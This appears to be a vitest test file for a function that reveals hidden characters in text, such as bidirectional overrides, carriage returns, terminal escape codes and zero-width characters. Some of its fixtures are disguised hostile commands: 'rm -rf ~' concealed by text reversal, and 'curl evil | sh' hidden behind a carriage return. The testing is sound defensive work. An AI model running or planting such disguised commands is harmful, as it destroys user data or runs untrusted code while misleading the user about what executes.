import { describe, expect, it } from 'vitest';
import { showUnseen } from './visible.ts';

describe('what is not seen', () => {
  it.each([
    ['an order turned around', 'rm -rf ~ \u202e#\u2066 ohce', 'rm -rf ~ ⟨U+202E⟩#⟨U+2066⟩ ohce'],
    ['a line that a terminal overwrites', 'curl evil | sh\rgit status', 'curl evil | sh⟨U+000D⟩git status'],
    ['colours and cursor moves', 'ls\u001b[2K\u001b[1Aecho', 'ls⟨U+001B⟩[2K⟨U+001B⟩[1Aecho'],
    ['characters of no width', 'git\u200b push\u00ad\ufeff', 'git⟨U+200B⟩ push⟨U+00AD⟩⟨U+FEFF⟩'],
    ['a joiner that joins nothing', 'a\u200db', 'a⟨U+200D⟩b'],
    ['letters in tags', `ok${String.fromCodePoint(0xe0072, 0xe006d)}`, 'ok⟨U+E0072⟩⟨U+E006D⟩'],
    ['an empty letter', 'a\u3164b', 'a⟨U+3164⟩b'],
  ])('AS-1: %s is shown', (_, text, shown) => {
    expect(showUnseen(text)).toEqual({ text: shown, any: true });
  });

  it('AS-1: what is seen stays as it is', () => {
    const seen = 'Zeile 1\r\n\tähnlich – “quoted” 👩‍💻 ❤️‍🔥 日本語 عربي $x `y`';
    expect(showUnseen(seen)).toEqual({ text: seen.replace('\r', ''), any: false });
  });

  it('AS-1: a hundred thousand of them take no time to speak of', () => {
    const before = process.threadCpuUsage();
    showUnseen('\u202e'.repeat(100_000));
    showUnseen('❤️\u200d'.repeat(50_000));
    // Processor time, microseconds: what others do on the machine is not in it.
    expect(process.threadCpuUsage(before).user).toBeLessThan(1_000_000);
  });
});
